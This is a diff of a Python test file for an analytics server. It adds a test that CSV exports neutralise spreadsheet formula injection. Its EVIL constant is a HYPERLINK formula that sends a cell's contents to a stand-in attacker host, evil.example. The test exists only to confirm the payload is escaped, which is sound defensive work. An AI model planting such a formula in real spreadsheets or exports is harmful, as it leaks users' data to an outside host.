@@ -22,7 +22,8 @@ from openpyxl import Workbook, load_workbook
 from protocol.catalog import SUMMARY, TABLES
 from protocol.errors import ProtocolError
 from server.analytics import xlsx_import
-from server.analytics.exporter import XLSX_TYPE
+from server.analytics.export_requests import XLSX_TYPE
+from server.analytics.reports import to_csv
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -89,6 +90,17 @@ async def test_text_that_would_run_as_a_formula_is_inert_in_every_export(server)
     assert not any(f.startswith("=") for f in report_fields)
     # numbers keep their sign: only text is escaped
     assert any(f.startswith("-") or f[:1].isdigit() for f in report_fields)
+
+
+def test_a_comparison_as_csv_is_inert_and_in_its_column_order():
+    """`/compare?format=csv` renders with the reports' CSV: text that would run as a
+    formula gets its quote, numbers keep their sign, columns keep their order."""
+    data = {
+        "columns": ["supplier", "a", "b", "ratio"],
+        "rows": [{"ratio": None, "b": Decimal("2.50"), "a": Decimal("-1.5"), "supplier": EVIL}],
+    }
+    lines = list(csv.reader(io.StringIO(to_csv(data))))
+    assert lines == [["supplier", "a", "b", "ratio"], ["'" + EVIL, "-1.5", "2.50", ""]]
 
 
 async def test_the_grid_workbook_has_the_hierarchy_totals_and_the_view(server):
